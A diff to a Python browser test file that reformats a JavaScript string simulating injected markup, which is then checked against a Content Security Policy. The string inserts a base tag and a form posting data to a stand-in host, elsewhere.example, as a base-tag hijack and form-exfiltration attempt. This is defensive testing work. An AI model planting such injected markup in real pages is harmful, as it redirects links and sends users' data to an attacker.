@@ -61,17 +61,25 @@ def test_the_page_stands_alone(chromium, hostile, scheme):
     page.close()
 
 
-SMUGGLED = """() => new Promise(done => {
-    document.head.prepend(Object.assign(document.createElement('base'), {href: 'https://elsewhere.example/'}))
-    const form = Object.assign(document.createElement('form'), {action: 'https://elsewhere.example/take', method: 'post'})
-    form.append(Object.assign(document.createElement('input'), {name: 'scenes', value: 'all of them'}))
-    document.body.append(form)
-    const link = Object.assign(document.createElement('a'), {href: 'next'}).href
-    document.addEventListener('securitypolicyviolation', e => {
-        if (e.effectiveDirective === 'form-action') done({base: document.baseURI, link})
-    })
-    form.submit()
-})"""
+SMUGGLED = """() =>
+    new Promise(done => {
+      document.head.prepend(
+        Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }),
+      )
+      const form = Object.assign(document.createElement('form'), {
+        action: 'https://elsewhere.example/take',
+        method: 'post',
+      })
+      form.append(
+        Object.assign(document.createElement('input'), { name: 'scenes', value: 'all of them' }),
+      )
+      document.body.append(form)
+      const link = Object.assign(document.createElement('a'), { href: 'next' }).href
+      document.addEventListener('securitypolicyviolation', e => {
+        if (e.effectiveDirective === 'form-action') done({ base: document.baseURI, link })
+      })
+      form.submit()
+    })"""
 
 
 def test_markup_that_got_in_could_post_nothing_and_move_no_address(chromium, hostile):
